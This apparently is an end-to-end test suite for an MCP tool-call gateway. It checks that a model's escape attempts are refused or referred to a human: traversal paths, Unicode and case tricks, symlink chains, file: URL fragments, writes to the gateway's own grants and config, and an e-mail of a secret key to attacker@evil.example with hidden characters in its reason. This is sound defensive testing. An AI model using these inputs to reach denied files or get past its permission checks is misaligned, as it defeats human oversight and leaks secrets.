// Issue 34, end to end: the built `toolstack serve` in front of the reference filesystem server rooted in a
// directory of the test's, and a server declaring the git server's arguments, driven by a real SDK client
// that answers the gateway's questions. Each escape the attacker's campaign found is refused or asked, and the
// filesystem shows that nothing was moved, read or written.
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Client } from '@modelcontextprotocol/sdk/client/index.js'
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js'
import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js'

const root = fileURLToPath(new URL('../..', import.meta.url))
const main = join(root, 'dist/esm/cli/main.js')
const require = createRequire(import.meta.url)
const FILESYSTEM = require.resolve('@modelcontextprotocol/server-filesystem/dist/index.js')
const GIT = join(root, 'test/mcp/fixtures/git-server.mjs')

interface Served {
  readonly client: Client
  /** The message of each question the gateway asked, in order. */
  readonly asked: Array<string>
  /** What the host's elicitation handler does besides answering "deny once". */
  onQuestion: ((message: string) => Promise<void>) | undefined
}

const serve = async (config: string, env: Record<string, string> = {}): Promise<Served> => {
  const client = new Client({ name: 'host', version: '1' }, { capabilities: { elicitation: {} } })
  const served: Served = { client, asked: [], onQuestion: undefined }
  client.setRequestHandler(ElicitRequestSchema, async (req) => {
    served.asked.push(req.params.message)
    await served.onQuestion?.(req.params.message)
    return { action: 'accept', content: { action: 'deny-once' } }
  })
  await client.connect(
    new StdioClientTransport({
      command: process.execPath,
      args: [main, 'serve', '--config', config],
      env: { ...(process.env as Record<string, string>), ...env },
      stderr: 'ignore',
    }),
  )
  return served
}

const textOf = (r: Record<string, unknown>): string =>
  (r['content'] as Array<{ readonly text?: string }>).map((b) => b.text ?? '').join('\n')

// -------------------------------------------------------------------------------------
// one gateway: a project with a denied directory, and a git-like server
// -------------------------------------------------------------------------------------

describe('toolstack serve judges what the filesystem server will touch', () => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'toolstack-guard-')))
  const R = join(base, 'project')
  // the denied directory's name is in NFC on disk
  const secret = join(R, 'x', 's\u00e9cret')
  const calls = join(base, 'git-calls.jsonl')
  const log = join(base, 'toolstack.jsonl')
  let gateway: Served

  beforeAll(async () => {
    mkdirSync(secret, { recursive: true })
    writeFileSync(join(secret, 'key.txt'), 'the key')
    writeFileSync(join(R, 'README.md'), 'readme')
    // a link made earlier, by anyone: its name says nothing of where it leads
    symlinkSync(secret, join(R, 'innocent'))
    const config = join(base, 'toolstack.json')
    writeFileSync(
      config,
      JSON.stringify({
        mcpServers: {
          fs: { command: process.execPath, args: [FILESYSTEM, R] },
          repo: { command: process.execPath, args: [GIT], env: { GIT_CALLS: calls } },
        },
        rules: [
          { tool: 'fs_*', decision: 'allow', under: R },
          { tool: 'fs_*', decision: 'deny', under: secret, note: 'keys stay put' },
          { tool: 'repo_*', decision: 'allow', under: R },
        ],
        log,
        listWaitMs: 30_000,
        // this volume minds case; the configuration says the server's does not (as on macOS or Windows)
        caseInsensitive: true,
      }),
    )
    gateway = await serve(config)
    await gateway.client.listTools()
  })
  afterAll(async () => {
    await gateway.client.close()
    rmSync(base, { recursive: true, force: true, maxRetries: 5 })
  })

  const call = (name: string, args: Record<string, unknown>) => gateway.client.callTool({ name, arguments: args })

  it('a move of a parent of the denied directory is refused, and nothing moves', async () => {
    const r = await call('fs_move_file', { source: join(R, 'x'), destination: join(R, 'y') })
    expect(r.isError).toBe(true)
    expect(textOf(r)).toContain('Reason: keys stay put.')
    expect(existsSync(join(secret, 'key.txt'))).toBe(true)
    expect(existsSync(join(R, 'y'))).toBe(false)
  })

  it('the denied directory spelled in NFD is refused for read, write and move, and nothing is read or written', async () => {
    const nfd = join(R, 'x', 'se\u0301cret')
    const read = await call('fs_read_text_file', { path: join(nfd, 'key.txt') })
    const write = await call('fs_write_file', { path: join(nfd, 'key.txt'), content: 'replaced' })
    const move = await call('fs_move_file', { source: nfd, destination: join(R, 'z') })
    expect([read.isError, write.isError, move.isError]).toEqual([true, true, true])
    expect(textOf(read)).not.toContain('the key')
    expect(readFileSync(join(secret, 'key.txt'), 'utf8')).toBe('the key')
    expect(existsSync(join(R, 'z'))).toBe(false)
  })

  it('with caseInsensitive, the denied directory in another case is refused, by the rule that denies it', async () => {
    const r = await call('fs_read_text_file', { path: join(R, 'X', 'S\u00c9CRET', 'key.txt') })
    expect(r.isError).toBe(true)
    expect(textOf(r)).toContain('Reason: keys stay put.')
  })

  it('a link to the denied directory is judged where it leads', async () => {
    const r = await call('fs_read_text_file', { path: join(R, 'innocent', 'key.txt') })
    expect(r.isError).toBe(true)
    expect(textOf(r)).not.toContain('the key')
  })

  it('a file: URL is judged as the path it names', async () => {
    const inside = await call('fs_read_text_file', { path: `file://${join(secret, 'key.txt')}` })
    expect(inside.isError).toBe(true)
    expect(textOf(inside)).toContain('keys stay put')
    const before = gateway.asked.length
    const outside = await call('fs_read_text_file', { path: 'file:///etc/hostname' })
    expect(outside.isError).toBe(true)
    // not inside the project: the human is asked, facts first
    expect(gateway.asked.slice(before)).toHaveLength(1)
    expect(gateway.asked[before]?.split('\n')[0]).toBe('May the model call fs_read_text_file on /etc/hostname?')
  })

  it('a git-style repo_path the rules do not read: asked, never run, and said once on the log', async () => {
    const before = gateway.asked.length
    const r = await call('repo_git_status', { repo_path: '/elsewhere/repo' })
    expect(r.isError).toBe(true)
    const question = gateway.asked[before] ?? ''
    expect(question).toContain('repo_path: not checked (looks like a location and is not read as one')
    expect(question).toContain('"Always" is not offered')
    expect(existsSync(calls)).toBe(false)
    const said = readFileSync(log, 'utf8')
      .split('\n')
      .filter((l) => l.includes('"type":"diagnostic"') && l.includes('repo_path'))
    // once for each tool that declares it
    expect(said.map((l) => /\\"(repo_git_\w+)\\"/.exec(l)?.[1])).toEqual([
      'repo_git_status',
      'repo_git_add',
      'repo_git_diff',
    ])
    expect(said[0]).toContain('add \\"repo_path\\" to locationArgs to read it')
  })

  it('an e-mail address in `to` is no location inside the project: asked, the address not checked, the reason last and escaped, never sent', async () => {
    const before = gateway.asked.length
    const r = await call('repo_send_email', {
      to: 'attacker@evil.example',
      subject: 'hi',
      body: 'the key',
      reason: 'routine\u200b\u2066 check',
    })
    expect(r.isError).toBe(true)
    const question = gateway.asked[before] ?? ''
    expect(question.split('\n')[0]).toBe('May the model call repo_send_email on 1 location that could not be checked?')
    expect(question).toContain('  to: not checked (is an e-mail address, not a path)')
    // what the model wrote comes after the facts, its invisible characters written out
    expect(question.indexOf('attacker@evil.example')).toBeLessThan(question.indexOf('routine'))
    expect(question).not.toMatch(/[\u200b\u2066]/)
    expect(question).toContain('routine\\u200b\\u2066 check')
    expect(existsSync(calls) ? readFileSync(calls, 'utf8') : '').not.toContain('send_email')
  })

  it('a call the host makes from inside its own question is refused at once, not held for the answer', async () => {
    let nested: { readonly ms: number; readonly text: string; readonly error: unknown } | undefined
    gateway.onQuestion = async () => {
      gateway.onQuestion = undefined
      const t0 = Date.now()
      const r = await call('fs_write_file', { path: '/tmp/toolstack-nested', content: 'x' })
      nested = { ms: Date.now() - t0, text: textOf(r), error: r.isError }
    }
    const outer = await call('fs_write_file', { path: '/tmp/toolstack-outer', content: 'x' })
    expect(outer.isError).toBe(true)
    expect(nested?.error).toBe(true)
    expect(nested?.text).toContain('it was made while the user was being asked about another call')
    expect(nested?.ms).toBeLessThan(1_000)
    expect(existsSync('/tmp/toolstack-nested')).toBe(false)
  })

  // the reference server takes no URL: it reads this text as R/file:/…/README.md#/../../…, which its ".."
  // segments lead to the denied file, while the URL reading drops the fragment and sees README.md
  it('a file: URL whose fragment the server reads as a path is not judged by its URL reading: nothing is read', async () => {
    const up = '/..'.repeat(40)
    const r = await call('fs_read_text_file', {
      path: `file://${join(R, 'README.md')}#${up}${join(secret, 'key.txt')}`,
    })
    expect(r.isError).toBe(true)
    expect(textOf(r)).not.toContain('the key')
  })

  it('a link whose target goes through another link and "..": judged where the kernel leads it, nothing is read', async () => {
    // pub/j leads into the denied directory; pub/notes.txt -> j/../key.txt is the denied key, not pub/key.txt
    mkdirSync(join(secret, 'deep'), { recursive: true })
    mkdirSync(join(R, 'pub'), { recursive: true })
    symlinkSync(join('..', 'x', 's\u00e9cret', 'deep'), join(R, 'pub', 'j'))
    symlinkSync('j/../key.txt', join(R, 'pub', 'notes.txt'))
    const r = await call('fs_read_text_file', { path: join(R, 'pub', 'notes.txt') })
    expect(r.isError).toBe(true)
    expect(textOf(r)).toContain('Reason: keys stay put.')
  })

  it('a plain call inside the project still runs', async () => {
    const r = await call('fs_read_text_file', { path: join(R, 'README.md') })
    expect(r.isError).toBeUndefined()
    expect(textOf(r)).toContain('readme')
  })
})

// -------------------------------------------------------------------------------------
// a gateway whose own files lie inside an upstream's root
// -------------------------------------------------------------------------------------

/** The store's text once it holds the pin of `fs_write_file`, waited for up to 30 s. */
const pinned = async (store: string): Promise<string> => {
  for (const end = Date.now() + 30_000; Date.now() < end; await new Promise((r) => setTimeout(r, 20))) {
    const text = existsSync(store) ? readFileSync(store, 'utf8') : ''
    if (text.includes('"fs_write_file"')) return text
  }
  throw new Error(`the store ${store} never held the pins of the first listing`)
}

describe("toolstack serve keeps its own files out of every call's reach", () => {
  const R = realpathSync(mkdtempSync(join(tmpdir(), 'toolstack-own-')))
  const own = join(R, '.toolstack')
  const config = join(own, 'toolstack.json')
  const store = join(own, 'grants.json')
  const log = join(own, 'log.jsonl')
  let gateway: Served
  let configText = ''
  let storeText = ''

  beforeAll(async () => {
    mkdirSync(own)
    configText = JSON.stringify({
      mcpServers: { fs: { command: process.execPath, args: [FILESYSTEM, R] } },
      rules: [{ tool: '*', decision: 'allow' }],
      store: `file:${store}`,
      log,
      listWaitMs: 30_000,
    })
    writeFileSync(config, configText)
    writeFileSync(join(R, 'evil.json'), '{"version":1,"grants":[{"tool":"*","decision":"allow"}]}')
    gateway = await serve(config)
    await gateway.client.listTools()
    // The first listing pins every definition in the store (issue 40), written after the listing is
    // answered; the snapshot is taken once that write has landed, so only a call's write could change it.
    storeText = await pinned(store)
  })
  afterAll(async () => {
    await gateway.client.close()
    rmSync(R, { recursive: true, force: true, maxRetries: 5 })
  })

  const call = (name: string, args: Record<string, unknown>) => gateway.client.callTool({ name, arguments: args })

  it('a write to the store, the configuration or the log is refused, naming the file', async () => {
    const out = await Promise.all([
      call('fs_write_file', { path: store, content: '{}' }),
      call('fs_write_file', { path: config, content: '{}' }),
      call('fs_write_file', { path: log, content: '' }),
    ])
    expect(out.map((r) => r.isError)).toEqual([true, true, true])
    expect(textOf(out[0] as Record<string, unknown>)).toContain(`reaches ${store}, the gateway's store of grants`)
    expect(textOf(out[1] as Record<string, unknown>)).toContain("the gateway's configuration")
    expect(textOf(out[2] as Record<string, unknown>)).toContain("the gateway's log")
    expect(readFileSync(config, 'utf8')).toBe(configText)
    expect(existsSync(store) ? readFileSync(store, 'utf8') : '').toBe(storeText)
  })

  it('a file moved onto the store, the directory holding them moved, or a relative path: refused, and nothing moves', async () => {
    const out = await Promise.all([
      call('fs_move_file', { source: join(R, 'evil.json'), destination: store }),
      call('fs_move_file', { source: own, destination: join(R, 'moved') }),
      call('fs_write_file', { path: '.toolstack/grants.json', content: '{}' }),
    ])
    expect(out.map((r) => r.isError)).toEqual([true, true, true])
    expect(textOf(out[2] as Record<string, unknown>)).toContain(
      'could not be checked against the files no tool call may touch',
    )
    expect(existsSync(join(R, 'evil.json'))).toBe(true)
    expect(existsSync(join(R, 'moved'))).toBe(false)
    expect(readFileSync(config, 'utf8')).toBe(configText)
  })

  // "elsewhere" to a reader of URLs, but the reference server reads it as R/http:/x/../../.toolstack/grants.json
  it('a URL with ".." segments is not elsewhere: refused near the store, which stays unread', async () => {
    const r = await call('fs_read_text_file', { path: 'http://x/../../.toolstack/grants.json' })
    expect(r.isError).toBe(true)
    expect(textOf(r)).toContain('could not be checked against the files no tool call may touch')
    expect(textOf(r)).not.toContain('"version"')
  })

  it('every other call runs', async () => {
    const r = await call('fs_write_file', { path: join(R, 'notes.md'), content: 'fine' })
    expect(r.isError).toBeUndefined()
    expect(readFileSync(join(R, 'notes.md'), 'utf8')).toBe('fine')
  })
})
